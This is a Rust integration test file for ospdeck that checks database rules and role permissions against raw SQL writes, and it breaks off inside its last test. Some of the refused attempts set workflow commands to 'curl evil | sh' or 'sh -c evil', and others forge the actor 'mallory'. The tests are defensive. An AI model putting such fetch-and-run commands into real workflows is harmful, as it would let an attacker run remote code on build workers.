//! Issue 11: the database holds when people skip ospdeck and write SQL themselves. The data rules
//! (a run is its workflow's, what was queued never changes, JSON nesting is bounded, the deploy
//! workflow stays what it is) hold on both stores for every writer; on PostgreSQL the members'
//! rules hold for a developer and a viewer connected as their own login roles, while the paths
//! the permission matrix allows keep working.

mod common;

conformance!(
    a_run_belongs_to_its_workflows_project_and_queue,
    what_was_queued_never_changes,
    json_nesting_is_bounded_at_64_levels,
    the_deploy_workflow_stays_what_it_is,
);

mod cases {
    use ospdeck::domain::permission::{Identity, Role};
    use ospdeck::domain::service::WorkflowSpec;
    use ospdeck::domain::workflow::WorkflowType;
    use ospdeck::ops::WorkflowRequest;
    use ospdeck::ops::{CreateService, EnqueueRequest, Ops, OpsError};
    use ospdeck::store::StoreKind;
    use serde_json::{Value, json};

    use super::common::{Harness, TestResult};

    /// Projects acme (workflow build on queue q-build) and other (workflow obuild); answers the
    /// workflow ids (build, obuild) and the project ids (acme, other).
    async fn two_projects(h: &Harness) -> Result<((i64, i64), (i64, i64)), OpsError> {
        let acme = h.ops.create_project("acme", None).await?;
        let other = h.ops.create_project("other", None).await?;
        let build = h
            .ops
            .create_workflow(&WorkflowRequest {
                queue: Some("q-build"),
                ..WorkflowRequest::new("acme", "build", WorkflowType::Build, "true")
            })
            .await?;
        let obuild = h
            .ops
            .create_workflow(&WorkflowRequest::new(
                "other",
                "obuild",
                WorkflowType::Build,
                "true",
            ))
            .await?;
        Ok(((build.id, obuild.id), (acme.id, other.id)))
    }

    async fn enqueue(ops: &Ops, project: &str, workflow: &str) -> Result<i64, OpsError> {
        ops.enqueue_run(&EnqueueRequest {
            project,
            workflow,
            payload: Some(r#"{"branch": "main"}"#),
            ..Default::default()
        })
        .await
    }

    /// A raw INSERT of a run as psql or sqlite3 would send it (SQLite wants the acting name),
    /// with one more column when `extra` names it.
    fn insert_run(
        h: &Harness,
        project: i64,
        workflow: i64,
        queue: &str,
        extra: Option<(&str, &str)>,
    ) -> String {
        let (actor_col, actor_val) = match h.kind() {
            StoreKind::Sqlite => (", changed_by", ", 'sqlite3'"),
            StoreKind::Postgres => ("", ""),
        };
        let (extra_col, extra_val) = match extra {
            Some((col, val)) => (format!(", {col}"), format!(", {val}")),
            None => (String::new(), String::new()),
        };
        format!(
            "INSERT INTO {} (project_id, workflow_id, queue{actor_col}{extra_col})
             VALUES ({project}, {workflow}, '{queue}'{actor_val}{extra_val})",
            h.table("runs")
        )
    }

    /// One run's whole row as text, read by the administrator.
    async fn run_row(h: &Harness, id: i64) -> String {
        let sql = match h.kind() {
            StoreKind::Postgres => format!("SELECT row_to_json(r)::text FROM ops.runs r WHERE id = {id}"),
            StoreKind::Sqlite => format!(
                "SELECT json_array(project_id, workflow_id, queue, status, priority, payload, attempt,
                                   max_attempts, worker_id, lease_expires_at, run_after, retry_of,
                                   created_at, error)
                 FROM runs WHERE id = {id}"
            ),
        };
        h.scalar_text(&sql).await
    }

    pub async fn a_run_belongs_to_its_workflows_project_and_queue(h: Harness) -> TestResult {
        let ((build, obuild), (acme, other)) = two_projects(&h).await?;
        let before = h.count("runs").await;
        for (sql, what) in [
            (
                insert_run(&h, acme, obuild, "default", None),
                "another project's workflow",
            ),
            (
                insert_run(&h, other, build, "q-build", None),
                "a workflow of another project",
            ),
            (
                insert_run(&h, acme, build, "elsewhere", None),
                "a queue that is not the workflow's",
            ),
        ] {
            let err = h.raw(&sql).await.err().ok_or(format!("{what} accepted"))?;
            assert!(
                err.contains("a run takes its workflow's project and queue")
                    || err.contains("run rule: a run takes its workflow"),
                "{what}: {err}"
            );
        }
        assert_eq!(
            h.count("runs").await,
            before,
            "a refused insert wrote a run"
        );
        // A retry retries a run of the same workflow.
        let first = enqueue(&h.ops, "other", "obuild").await?;
        let err = h
            .raw(&insert_run(
                &h,
                acme,
                build,
                "q-build",
                Some(("retry_of", &first.to_string())),
            ))
            .await
            .err()
            .ok_or("a retry of another workflow's run accepted")?;
        assert!(err.contains("retr"), "{err}");
        // The right project and queue go in, raw or through ospdeck.
        assert_eq!(
            h.raw(&insert_run(&h, acme, build, "q-build", None)).await?,
            1
        );
        let id = enqueue(&h.ops, "acme", "build").await?;
        let run = h.ops.run(id).await?;
        assert_eq!((run.project_id, run.queue.as_str()), (acme, "q-build"));
        Ok(())
    }

    pub async fn what_was_queued_never_changes(h: Harness) -> TestResult {
        let ((_, obuild), (_, other)) = two_projects(&h).await?;
        h.ops
            .create_workflow(&WorkflowRequest::new(
                "acme",
                "lint",
                WorkflowType::Test,
                "true",
            ))
            .await?;
        let lint = h.ops.workflow("acme", "lint").await?.id;
        let earlier = enqueue(&h.ops, "acme", "build").await?;
        let id = enqueue(&h.ops, "acme", "build").await?;
        let runs = h.table("runs");
        let rewrites = [
            "payload = '{\"branch\": \"evil\"}'".to_owned(),
            format!("project_id = {other}"),
            format!("workflow_id = {lint}"),
            format!("workflow_id = {obuild}"),
            "queue = 'elsewhere'".to_owned(),
            format!("retry_of = {earlier}"),
            match h.kind() {
                StoreKind::Postgres => "created_at = created_at + interval '1 second'".to_owned(),
                StoreKind::Sqlite => "created_at = created_at + 1".to_owned(),
            },
        ];
        let check = |stage: &'static str| {
            let h = &h;
            let rewrites = &rewrites;
            let runs = &runs;
            async move {
                for set in rewrites {
                    let before = run_row(h, id).await;
                    let err = h
                        .raw(&format!("UPDATE {runs} SET {set} WHERE id = {id}"))
                        .await
                        .err()
                        .ok_or(format!("{stage}: SET {set} accepted"))?;
                    assert!(err.contains("never change once it is queued"), "{err}");
                    assert_eq!(run_row(h, id).await, before, "{stage}: SET {set}");
                }
                Ok::<(), String>(())
            }
        };
        check("queued").await?;
        // Still so once claimed; and the queue's own statements are not in the way.
        let claimed = h
            .ops
            .claim_runs(
                "w1",
                &["q-build".to_owned()],
                2,
                std::time::Duration::from_secs(60),
            )
            .await?;
        assert_eq!(claimed.len(), 2);
        check("claimed").await?;
        h.ops.start_run("w1", id).await?;
        let done = h.ops.complete_run("w1", id, 0, None).await?;
        assert_eq!(done.payload, json!({"branch": "main"}));
        // Administrators (and everyone on SQLite) may still reschedule a queued run.
        let queued = enqueue(&h.ops, "acme", "build").await?;
        h.raw(&format!(
            "UPDATE {runs} SET priority = 7 WHERE id = {queued}"
        ))
        .await?;
        assert_eq!(h.ops.run(queued).await?.priority, 7);
        Ok(())
    }

    fn nested_arrays(levels: usize) -> String {
        format!("{}1{}", "[".repeat(levels), "]".repeat(levels))
    }

    /// `levels` containers deep: objects and arrays alternating, innermost empty.
    fn nested_mixed(levels: usize) -> Value {
        let mut v = if levels % 2 == 0 {
            json!({})
        } else {
            json!([])
        };
        for level in (1..levels).rev() {
            v = if level % 2 == 0 {
                json!({ "k": v })
            } else {
                json!([v])
            };
        }
        v
    }

    pub async fn json_nesting_is_bounded_at_64_levels(h: Harness) -> TestResult {
        let ((build, _), (acme, _)) = two_projects(&h).await?;
        assert_eq!(ospdeck::domain::json::json_depth(&nested_mixed(65)), 65);
        let payload = |text: &str| {
            let quoted = text.replace('\'', "''");
            match h.kind() {
                StoreKind::Postgres => format!("'{quoted}'::jsonb"),
                StoreKind::Sqlite => format!("'{quoted}'"),
            }
        };
        let wide: Vec<Value> = (0..300).map(|i| json!({"i": [i, [i]]})).collect();
        let accepted = [
            nested_arrays(64),
            nested_mixed(64).to_string(),
            // Many brackets, little depth: SQLite's slow path, accepted.
            json!({ "items": wide }).to_string(),
        ];
        for text in &accepted {
            h.raw(&insert_run(
                &h,
                acme,
                build,
                "q-build",
                Some(("payload", &payload(text))),
            ))
            .await
            .map_err(|e| format!("depth {} refused: {e}", text.len()))?;
        }
        let runs = h.count("runs").await;
        for text in [
            nested_arrays(65),
            nested_mixed(65).to_string(),
            nested_arrays(200),
        ] {
            let err = h
                .raw(&insert_run(
                    &h,
                    acme,
                    build,
                    "q-build",
                    Some(("payload", &payload(&text))),
                ))
                .await
                .err()
                .ok_or("a payload nested 65 deep was stored")?;
            assert!(err.contains("nested"), "{err}");
        }
        assert_eq!(h.count("runs").await, runs);

        // Manifest content: the same bound, on insert and on a draft's edit.
        let created = h
            .ops
            .create_service(&CreateService {
                project: "acme",
                name: Some("Billing"),
                schema: Some("billing"),
                workflows: vec!["charge:calc".parse::<WorkflowSpec>()?],
                manifest: None,
            })
            .await?;
        let service = created.service.id;
        let governing = created.manifest.content;
        let content = |deep: Value| {
            let mut c = governing.clone();
            c["extra"] = deep;
            c.to_string().replace('\'', "''")
        };
        let manifests = h.meta("service_manifests");
        let insert = |version: &str, text: String| {
            format!(
                "INSERT INTO {manifests} (service_id, service_name, version, manifest_content, status, created_by)
                 VALUES ({service}, 'Billing', '{version}', '{text}', 'draft', 'tester')"
            )
        };
        // The content object is one level; `extra` adds 63 more, then 64.
        h.raw(&insert("1.1.0", content(nested_mixed(63)))).await?;
        let err = h
            .raw(&insert("1.2.0", content(nested_mixed(64))))
            .await
            .err()
            .ok_or("a manifest nested 65 deep was stored")?;
        assert!(err.contains("nested"), "{err}");
        let err = h
            .raw(&format!(
                "UPDATE {manifests} SET manifest_content = '{}' WHERE version = '1.1.0'",
                content(nested_mixed(64))
            ))
            .await
            .err()
            .ok_or("a draft was edited to 65 levels")?;
        assert!(err.contains("nested"), "{err}");
        assert_eq!(
            h.scalar(&format!(
                "SELECT count(*) FROM {manifests} WHERE service_id = {service}"
            ))
            .await,
            2
        );
        Ok(())
    }

    pub async fn the_deploy_workflow_stays_what_it_is(h: Harness) -> TestResult {
        let ((build, _), (_, other)) = two_projects(&h).await?;
        h.ops
            .create_service(&CreateService {
                project: "acme",
                name: Some("Billing"),
                schema: Some("billing"),
                workflows: vec!["charge:calc".parse::<WorkflowSpec>()?],
                manifest: None,
            })
            .await?;
        let deploy = h
            .ops
            .workflow("acme", ospdeck::ops::DEPLOY_WORKFLOW)
            .await?;
        let workflows = h.table("workflows");
        for (set, id) in [
            ("command = 'sh -c evil'", deploy.id),
            ("workflow_type = 'build'", deploy.id),
            ("task_queue = 'default'", deploy.id),
            ("command = 'ospdeck:deploy-service'", build),
            (&*format!("project_id = {other}"), build),
        ] {
            let before = h.ops.list_workflows(None).await?;
            let err = h
                .raw(&format!("UPDATE {workflows} SET {set} WHERE id = {id}"))
                .await
                .err()
                .ok_or(format!("SET {set} on workflow {id} accepted"))?;
            assert!(err.contains("workflow"), "{err}");
            let after = h.ops.list_workflows(None).await?;
            assert_eq!(
                format!("{before:?}"),
                format!("{after:?}"),
                "SET {set} changed a workflow"
            );
        }
        // An ordinary workflow's command is the administrator's to change.
        h.raw(&format!(
            "UPDATE {workflows} SET command = 'make all' WHERE id = {build}"
        ))
        .await?;
        assert_eq!(h.ops.workflow("acme", "build").await?.command, "make all");

        // Through ospdeck, creating a workflow with the deploy command is deploying: admin or
        // higher in the project, like queuing its runs.
        h.ops
            .set_member("acme", "dev", Role::Developer, true)
            .await?;
        h.ops.set_member("acme", "adm", Role::Admin, true).await?;
        let as_dev = Ops::new(h.store.clone(), Identity::member("dev"));
        let refused = as_dev
            .create_workflow(&WorkflowRequest::new(
                "acme",
                "launcher",
                WorkflowType::Deploy,
                ospdeck::ops::DEPLOY_COMMAND,
            ))
            .await;
        assert!(
            matches!(&refused, Err(OpsError::Forbidden(m)) if m.starts_with("permission denied")),
            "{refused:?}"
        );
        let as_admin = Ops::new(h.store.clone(), Identity::member("adm"));
        as_admin
            .create_workflow(&WorkflowRequest {
                queue: Some("ospdeck-deploy"),
                ..WorkflowRequest::new(
                    "acme",
                    "launcher",
                    WorkflowType::Deploy,
                    ospdeck::ops::DEPLOY_COMMAND,
                )
            })
            .await?;
        Ok(())
    }
}

/// PostgreSQL only: what the issue's tester tried through psql, as a developer and as a viewer
/// connected as their own login roles. Each attempt is refused and leaves its row as it was; what
/// the permission matrix allows still works, through ospdeck and through plain SQL.
mod members {
    use std::time::Duration;

    use ospdeck::domain::permission::Role;
    use ospdeck::domain::run::{Completion, Hold, RunStatus};
    use ospdeck::domain::service::WorkflowSpec;
    use ospdeck::domain::workflow::WorkflowType;
    use ospdeck::ops::WorkflowRequest;
    use ospdeck::ops::{CreateService, DEPLOY_WORKFLOW, EnqueueRequest, ManifestProposal, Ops};
    use ospdeck::store::{self, StoreOptions};
    use serde_json::json;
    use sqlx::{Connection, Executor, PgConnection};

    use super::common::{BoxError, Harness, TestResult};

    const LEASE: Duration = Duration::from_secs(300);

    /// Project acme with two developers, a viewer and an admin (each its own login role), the
    /// workflows build and lint on queue q and the service billing (hence the deploy workflow);
    /// project other with its own workflow obuild.
    struct Team {
        h: Harness,
        dev: String,
        dev2: String,
        viewer: String,
        admin: String,
        acme: i64,
        build: i64,
        lint: i64,
        obuild: i64,
    }

    async fn team(test: &str) -> Result<Option<Team>, BoxError> {
        let Some(h) = Harness::postgres(test).await else {
            return Ok(None);
        };
        let p = h.unique_prefix();
        let (dev, dev2, viewer, admin) = (
            format!("{p}_dev"),
            format!("{p}_dev2"),
            format!("{p}_viewer"),
            format!("{p}_admin"),
        );
        let acme = h.ops.create_project("acme", None).await?.id;
        h.ops.create_project("other", None).await?;
        for (user, role) in [
            (&dev, Role::Developer),
            (&dev2, Role::Developer),
            (&viewer, Role::Viewer),
            (&admin, Role::Admin),
        ] {
            h.ops.set_member("acme", user, role, false).await?;
        }
        let mut ids = Vec::new();
        for (project, name) in [("acme", "build"), ("acme", "lint"), ("other", "obuild")] {
            let wf = h
                .ops
                .create_workflow(&WorkflowRequest {
                    queue: Some("q"),
                    ..WorkflowRequest::new(project, name, WorkflowType::Build, "make")
                })
                .await?;
            ids.push(wf.id);
        }
        let [build, lint, obuild] = ids[..] else {
            return Err("three workflows".into());
        };
        h.ops.create_service(&billing("billing")?).await?;
        Ok(Some(Team {
            h,
            dev,
            dev2,
            viewer,
            admin,
            acme,
            build,
            lint,
            obuild,
        }))
    }

    fn billing(schema: &str) -> Result<CreateService<'_>, BoxError> {
        Ok(CreateService {
            project: "acme",
            name: Some("Billing"),
            schema: Some(schema),
            workflows: vec!["charge:calc".parse::<WorkflowSpec>()?],
            manifest: None,
        })
    }

    async fn connect(h: &Harness, role: &str) -> Result<PgConnection, BoxError> {
        Ok(PgConnection::connect(&h.url_as(role)).await?)
    }

    /// ospdeck itself on the member's login role: the database says who this is.
    async fn ops_as(h: &Harness, role: &str) -> Result<Ops, BoxError> {
        let store = store::open(
            &h.url_as(role),
            &StoreOptions {
                read_only: false,
                max_connections: 2,
                ..Default::default()
            },
        )
        .await?;
        let ops = Ops::connect_as(store, None).await?;
        assert!(!ops.identity().administrator, "{role} is a member");
        Ok(ops)
    }

    /// The error `sql` met on `conn`, or None when it went through. The error reaches us before
    /// the server has rolled the statement back; the next round trip waits for that, so that
    /// rows it locked are free again (a SKIP LOCKED claim right after would pass them by).
    async fn refusal(conn: &mut PgConnection, sql: &str) -> Option<String> {
        let refused = conn.execute(sql).await.err().map(|e| e.to_string());
        let _ = conn.execute("SELECT 1").await;
        refused
    }

    /// A row of `table` as the administrator reads it.
    async fn row(h: &Harness, table: &str, id: i64) -> String {
        h.scalar_text(&format!(
            "SELECT row_to_json(t)::text FROM {table} t WHERE id = {id}"
        ))
        .await
    }

    async fn enqueue(ops: &Ops, workflow: &str) -> Result<i64, BoxError> {
        Ok(ops
            .enqueue_run(&EnqueueRequest {
                project: "acme",
                workflow,
                payload: Some(r#"{"branch": "main"}"#),
                ..Default::default()
            })
            .await?)
    }

    /// Claims exactly `id` (the only run queued on q) for `worker` and starts it.
    async fn hold_running(ops: &Ops, worker: &str, id: i64) -> Result<(), BoxError> {
        let claimed = ops.claim_runs(worker, &["q".to_owned()], 1, LEASE).await?;
        assert_eq!(claimed.iter().map(|c| c.id).collect::<Vec<_>>(), vec![id]);
        ops.start_run(worker, id).await?;
        Ok(())
    }

    /// The `watched` rows, and how many runs, events, workflows and audit rows there are.
    async fn state(h: &Harness, watched: &[(&str, i64)]) -> (Vec<String>, [i64; 4]) {
        let mut rows = Vec::new();
        for (table, id) in watched {
            rows.push(row(h, table, *id).await);
        }
        let mut counts = [0; 4];
        for (count, table) in
            counts
                .iter_mut()
                .zip(["runs", "run_events", "workflows", "audit_log"])
        {
            *count = h.count(table).await;
        }
        (rows, counts)
    }

    /// Every attempt, by the developer and by the viewer: the developer is refused with an error;
    /// the viewer is refused or sees nothing to change; either way `watched` rows stay as they
    /// were, and so do the counts of runs, events, workflows and audit rows.
    async fn all_refused(
        t: &Team,
        attempts: &[String],
        watched: &[(&str, i64)],
        viewer_errors: bool,
    ) -> TestResult {
        let h = &t.h;
        for (member, must_error) in [(&t.dev, true), (&t.viewer, viewer_errors)] {
            let mut conn = connect(h, member).await?;
            for sql in attempts {
                let before = state(h, watched).await;
                let outcome = refusal(&mut conn, sql).await;
                if must_error {
                    let err = outcome.ok_or(format!("{member}: went through: {sql}"))?;
                    assert!(
                        err.contains("permission denied")
                            || err.contains("row-level security")
                            || err.contains("never change")
                            || err.contains("a worker id is required")
                            || err.contains("a run takes its workflow"),
                        "{member}: {sql}: {err}"
                    );
                }
                assert_eq!(before, state(h, watched).await, "{member} wrote: {sql}");
            }
        }
        Ok(())
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn members_cannot_change_workflows() -> TestResult {
        let Some(t) = team("members_cannot_change_workflows").await? else {
            return Ok(());
        };
        let h = &t.h;
        let deploy = h.ops.workflow("acme", DEPLOY_WORKFLOW).await?.id;
        let build = t.build;
        let attempts = [
            format!("UPDATE ops.workflows SET command = 'curl evil | sh' WHERE id = {deploy}"),
            format!("UPDATE ops.workflows SET task_queue = 'q' WHERE id = {deploy}"),
            format!("UPDATE ops.workflows SET command = 'curl evil | sh' WHERE id = {build}"),
            format!(
                "UPDATE ops.workflows SET workflow_type = 'deploy', command = 'ospdeck:deploy-service' WHERE id = {build}"
            ),
            format!("UPDATE ops.workflows SET task_queue = 'ospdeck-deploy' WHERE id = {build}"),
            format!(
                "INSERT INTO ops.workflows (project_id, name, workflow_type, task_queue, command, created_by)
                 VALUES ({}, 'launcher', 'deploy', 'ospdeck-deploy', 'ospdeck:deploy-service', 'x')",
                t.acme
            ),
        ];
        let watched = [("ops.workflows", deploy), ("ops.workflows", build)];
        all_refused(&t, &attempts, &watched, true).await?;

        // What members may do: a developer creates an ordinary workflow; an admin of the
        // project creates one with the deploy command and creates a service (which reuses the
        // project's deploy workflow without updating it).
        let mut dev = connect(h, &t.dev).await?;
        dev.execute(
            format!(
                "INSERT INTO ops.workflows (project_id, name, workflow_type, task_queue, command, created_by)
                 VALUES ({}, 'docs', 'build', 'q', 'make docs', 'x')",
                t.acme
            )
            .as_str(),
        )
        .await?;
        let mut admin = connect(h, &t.admin).await?;
        admin
            .execute(
                format!(
                    "INSERT INTO ops.workflows (project_id, name, workflow_type, task_queue, command, created_by)
                     VALUES ({}, 'launcher', 'deploy', 'ospdeck-deploy', 'ospdeck:deploy-service', 'x')",
                    t.acme
                )
                .as_str(),
            )
            .await?;
        let created = ops_as(h, &t.admin)
            .await?
            .create_service(&billing("ledger")?)
            .await?;
        assert_eq!(
            h.ops.run(created.deploy_run_id).await?.workflow_id,
            deploy,
            "the second service's deploy run uses the project's deploy workflow"
        );

        // The store's administrator may change a workflow, and the database audits it.
        h.raw("SET ospdeck.actor = 'opsbot'; UPDATE ops.workflows SET command = 'make all' WHERE name = 'build'")
            .await?;
        let audited = h
            .scalar_text(&format!(
                "SELECT actor || '|' || entity_id || '|' || (before ->> 'command') || '|' || (after ->> 'command')
                 FROM ops.audit_log WHERE action = 'update' AND entity_type = 'workflow' AND project_id = {}",
                t.acme
            ))
            .await;
        assert_eq!(audited, format!("opsbot|{build}|make|make all"));
        // Not the deploy workflow, though: its command stays for everyone.
        let err = h
            .raw(&format!(
                "UPDATE ops.workflows SET command = 'sh' WHERE id = {deploy}"
            ))
            .await
            .err()
            .ok_or("the administrator rewrote the deploy workflow")?;
        assert!(err.contains("deploy workflow keeps"), "{err}");
        Ok(())
    }

    /// Activation is the admin path by which a service's workflow changes: a project admin on its
    /// own login role activates a manifest that changes a workflow's command, and the database
    /// audits it; a developer cannot take that path by calling its function directly.
    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn a_project_admin_changes_a_service_workflow_by_activating_its_manifest() -> TestResult {
        let Some(t) =
            team("a_project_admin_changes_a_service_workflow_by_activating_its_manifest").await?
        else {
            return Ok(());
        };
        let h = &t.h;
        let admin = ops_as(h, &t.admin).await?;
        admin.create_service(&billing("ledger")?).await?;
        let charge = h.ops.workflow("acme", "ledger.charge").await?.id;

        let mut dev = connect(h, &t.dev).await?;
        let before = row(h, "ops.workflows", charge).await;
        let refused = refusal(
            &mut dev,
            &format!("SELECT ops.update_service_workflow({charge}, 'q', 'curl evil | sh')"),
        )
        .await
        .ok_or("a developer changed a service workflow through the activation function")?;
        assert!(refused.contains("permission denied"), "{refused}");
        assert_eq!(before, row(h, "ops.workflows", charge).await);

        let mut content = admin.manifest("ledger", None).await?.content;
        content["workflows"][0]["command"] = json!("make charge");
        let proposed = admin
            .propose_manifest(&ManifestProposal::new("ledger", &content.to_string()))
            .await?;
        admin.activate_manifest("ledger", &proposed.version).await?;
        assert_eq!(
            h.ops.workflow("acme", "ledger.charge").await?.command,
            "make charge"
        );
        let audited = h
            .scalar_text(&format!(
                "SELECT actor || '|' || (after ->> 'command') FROM ops.audit_log
                 WHERE action = 'update' AND entity_type = 'workflow' AND entity_id = '{charge}'"
            ))
            .await;
        assert_eq!(audited, format!("{}|make charge", t.admin));
        Ok(())
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn members_cannot_cancel_finish_release_or_extend_others_runs() -> TestResult {
        let Some(t) = team("members_cannot_cancel_finish_release_or_extend_others_runs").await?
        else {
            return Ok(());
        };
        let h = &t.h;
        // The administrator's worker runs one; the other developer's worker runs another.
        let by_admin = enqueue(&h.ops, "build").await?;
        hold_running(&h.ops, "admin-w", by_admin).await?;
        let dev2 = ops_as(h, &t.dev2).await?;
        let by_dev2 = enqueue(&dev2, "build").await?;
        hold_running(&dev2, "dev2-w", by_dev2).await?;
        let queued = enqueue(&h.ops, "build").await?;

        let mut attempts = vec![
            format!("SELECT ops.cancel_run({queued})"),
            format!(
                "UPDATE ops.runs SET status = 'canceled', finished_at = now() WHERE id = {queued}"
            ),
        ];
        for (id, worker) in [(by_admin, "admin-w"), (by_dev2, "dev2-w")] {
            attempts.extend([
                format!("SELECT ops.cancel_run({id})"),
                format!("UPDATE ops.runs SET cancel_requested = true WHERE id = {id}"),
                format!("UPDATE ops.runs SET status = 'canceled', finished_at = now() WHERE id = {id}"),
                format!(
                    "SELECT ops.complete_workflow_runs('{worker}', ARRAY[{id}::bigint], ARRAY[NULL::int], ARRAY[0], ARRAY[NULL::text], ARRAY[false])"
                ),
                format!("SELECT ops.complete_workflow_run({id}, 0, NULL, '{worker}', 1)"),
                format!("SELECT ops.complete_workflow_run({id}, 0)"),
                format!("SELECT ops.release_runs('{worker}', ARRAY[{id}::bigint], ARRAY[1])"),
                format!("SELECT * FROM ops.heartbeat_runs('{worker}', ARRAY[{id}::bigint], ARRAY[1], 86400)"),
                format!(
                    "UPDATE ops.runs SET status = 'succeeded', exit_code = 0, finished_at = now() WHERE id = {id}"
                ),
                format!(
                    "UPDATE ops.runs SET status = 'queued', worker_id = NULL, claimed_by = NULL, attempt = attempt - 1 WHERE id = {id}"
                ),
                format!("UPDATE ops.runs SET lease_expires_at = now() + interval '1 day' WHERE id = {id}"),
                format!(
                    "UPDATE ops.runs SET claimed_by = ops.current_user_id(), worker_id = 'mine' WHERE id = {id}"
                ),
            ]);
        }
        let watched = [
            ("ops.runs", by_admin),
            ("ops.runs", by_dev2),
            ("ops.runs", queued),
        ];
        // A viewer is refused too, but row-level security mostly shows it nothing to change.
        all_refused(&t, &attempts, &watched, false).await?;

        // What the matrix allows: an admin of the project cancels (a queued run at once, a
        // running one by request, which its holder then honours); each holder finishes its own.
        let admin = ops_as(h, &t.admin).await?;
        admin.cancel_run(queued).await?;
        admin.cancel_run(by_dev2).await?;
        let acks = dev2
            .heartbeat(
                "dev2-w",
                &[Hold {
                    run_id: by_dev2,
                    attempt: 1,
                }],
                LEASE,
            )
            .await?;
        assert!(
            acks.iter()
                .any(|a| a.run_id == by_dev2 && a.cancel_requested)
        );
        let stopped = dev2
            .complete_runs(
                "dev2-w",
                &[Completion {
                    hold: Hold {
                        run_id: by_dev2,
                        attempt: 1,
                    },
                    exit_code: None,
                    error: Some("stopped on request".into()),
                    canceled: true,
                }],
            )
            .await?;
        assert_eq!(stopped, vec![by_dev2]);
        h.ops.complete_run("admin-w", by_admin, 0, None).await?;
        let statuses = [
            h.ops.run(queued).await?.status,
            h.ops.run(by_dev2).await?.status,
            h.ops.run(by_admin).await?.status,
        ];
        assert_eq!(
            statuses,
            [
                RunStatus::Canceled,
                RunStatus::Canceled,
                RunStatus::Succeeded
            ]
        );
        Ok(())
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn members_cannot_move_or_rewrite_runs() -> TestResult {
        let Some(t) = team("members_cannot_move_or_rewrite_runs").await? else {
            return Ok(());
        };
        let h = &t.h;
        let id = enqueue(&h.ops, "build").await?;
        let (acme, build, lint, obuild) = (t.acme, t.build, t.lint, t.obuild);
        let attempts = [
            format!("UPDATE ops.runs SET workflow_id = {lint} WHERE id = {id}"),
            format!("UPDATE ops.runs SET workflow_id = {obuild} WHERE id = {id}"),
            format!("UPDATE ops.runs SET payload = '{{\"branch\": \"evil\"}}' WHERE id = {id}"),
            format!("UPDATE ops.runs SET queue = 'ospdeck-deploy' WHERE id = {id}"),
            format!("UPDATE ops.runs SET priority = 1000 WHERE id = {id}"),
            format!("UPDATE ops.runs SET max_attempts = 100 WHERE id = {id}"),
            format!("UPDATE ops.runs SET run_after = 'infinity' WHERE id = {id}"),
            format!("UPDATE ops.runs SET attempt = 2 WHERE id = {id}"),
            format!("UPDATE ops.runs SET error = 'forged' WHERE id = {id}"),
            format!(
                "INSERT INTO ops.runs (project_id, workflow_id, queue) VALUES ({acme}, {obuild}, 'q')"
            ),
            format!(
                "INSERT INTO ops.runs (project_id, workflow_id, queue) VALUES ({acme}, {build}, 'ospdeck-deploy')"
            ),
            format!(
                "INSERT INTO ops.runs (project_id, workflow_id, queue, worker_id, claimed_by) VALUES ({acme}, {build}, 'q', 'w', '{}')",
                t.dev2
            ),
        ];
        all_refused(&t, &attempts, &[("ops.runs", id)], false).await?;
        // The viewer's inserts are refused loudly (row-level security), like the developer's.
        let mut viewer = connect(h, &t.viewer).await?;
        let err = refusal(&mut viewer, &attempts[10])
            .await
            .ok_or("viewer queued a run")?;
        assert!(err.contains("row-level security"), "{err}");
        Ok(())
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn run_events_name_the_member_whatever_it_claims() -> TestResult {
        let Some(t) = team("run_events_name_the_member_whatever_it_claims").await? else {
            return Ok(());
        };
        let h = &t.h;
        let mut dev = connect(h, &t.dev).await?;
        dev.execute("SET ospdeck.actor = 'mallory'").await?;
        let (id,): (i64,) = sqlx::query_as(
            "SELECT ops.enqueue_runs('mallory', ARRAY[$1::bigint], ARRAY[$2::bigint], ARRAY[0],
                                     ARRAY['{}'::jsonb], ARRAY[3], ARRAY[NULL::timestamptz])",
        )
        .bind(t.acme)
        .bind(t.build)
        .fetch_one(&mut dev)
        .await?;
        let (claimed,): (i64,) =
            sqlx::query_as("SELECT id FROM ops.claim_runs('mallory-w', ARRAY['q'], 1, 300)")
                .fetch_one(&mut dev)
                .await?;
        assert_eq!(claimed, id);
        dev.execute(format!("SELECT ops.start_workflow_run({id}, 'mallory-w')").as_str())
            .await?;
        dev.execute(
            format!("SELECT ops.complete_workflow_run({id}, 0, NULL, 'mallory-w')").as_str(),
        )
        .await?;
        let actors = h
            .scalar_text(&format!(
                "SELECT string_agg(actor, ',' ORDER BY id) FROM ops.run_events WHERE run_id = {id}"
            ))
            .await;
        assert_eq!(actors, [t.dev.as_str(); 4].join(","));
        assert_eq!(
            h.scalar_text(&format!("SELECT claimed_by FROM ops.runs WHERE id = {id}"))
                .await,
            t.dev
        );

        // Nobody writes or rewrites events by hand.
        let attempts = [
            format!(
                "INSERT INTO ops.run_events (run_id, event_type, from_status, to_status, attempt, actor)
                 VALUES ({id}, 'state_change', 'running', 'succeeded', 1, 'mallory')"
            ),
            format!("UPDATE ops.run_events SET actor = 'mallory' WHERE run_id = {id}"),
            format!("DELETE FROM ops.run_events WHERE run_id = {id}"),
        ];
        all_refused(&t, &attempts, &[("ops.runs", id)], true).await?;

        // The store's administrator keeps naming the actor (or its worker) as before.
        let queued = enqueue(&h.ops, "build").await?;
        h.raw(&format!(
            "SET ospdeck.actor = 'opsbot'; UPDATE ops.runs SET status = 'canceled' WHERE id = {queued}"
        ))
        .await?;
        hold_running(&h.ops, "admin-w", enqueue(&h.ops, "build").await?).await?;
        let admin_actors = h
            .scalar_text(
                "SELECT string_agg(DISTINCT actor, ',' ORDER BY actor) FROM ops.run_events
                 WHERE to_status IN ('canceled', 'claimed', 'running') AND actor <> ops.current_user_id()",
            )
            .await;
        assert!(admin_actors.contains("opsbot"), "{admin_actors}");
        assert!(admin_actors.contains("admin-w"), "{admin_actors}");
        Ok(())
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn a_developers_worker_works_its_own_runs_and_rescues_expired_ones() -> TestResult {
        let Some(t) =
            team("a_developers_worker_works_its_own_runs_and_rescues_expired_ones").await?
        else {
            return Ok(());
        };
        let h = &t.h;
        let dev = ops_as(h, &t.dev).await?;
        // Through ospdeck: claim, start, heartbeat, complete.
        let id = enqueue(&dev, "build").await?;
        hold_running(&dev, "dev-w", id).await?;
